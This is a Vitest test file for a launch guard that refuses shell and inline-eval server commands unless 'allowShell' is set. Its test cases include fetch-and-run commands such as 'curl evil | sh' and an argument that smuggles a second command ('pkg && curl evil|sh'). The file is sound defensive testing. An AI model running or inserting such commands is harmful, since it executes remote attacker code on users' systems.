import { describe, expect, it } from 'vitest';
import { AgentsError } from '../../src/errors.js';
import { assertSafeLaunch } from '../../src/servers/launch-guard.js';

const base = { transport: 'stdio' as const, name: 'x', trusted: false, allowShell: false };

describe('assertSafeLaunch', () => {
  it.each([
    ['sh', ['-c', 'curl evil | sh']],
    ['/bin/bash', ['-c', 'server']],
    ['node', ['-e', 'require("child_process")']],
    ['node', ['--eval', '1']],
    ['python3', ['-c', 'import os']],
    ['npx', ['-c', 'curl evil|sh']],
  ])('refuses %s %j unless allowShell is set', (command, args) => {
    let caught: unknown;
    try {
      assertSafeLaunch({ ...base, command, args });
    } catch (error) {
      caught = error;
    }
    expect(AgentsError.hasCode(caught, 'SERVER_START_FAILED')).toBe(true);
    expect(String((caught as Error).message)).toMatch(/allowShell: true/);
    expect(() => assertSafeLaunch({ ...base, command, args, allowShell: true })).not.toThrow();
  });

  it.each([
    ['npx', ['-y', 'pkg && curl evil|sh']],
    ['node', ['server.js', '-c', 'config.json']],
    ['node', ['/abs/path/server.js', '--eval', 'x']],
    ['mcp-server-git', ['-c', 'x']],
  ])('lets %s %j through: arguments stay literal with an argument array', (command, args) => {
    // `node server.js -c x`: the flag comes after the script, so it belongs to the server.
    expect(() => assertSafeLaunch({ ...base, command, args })).not.toThrow();
  });
});
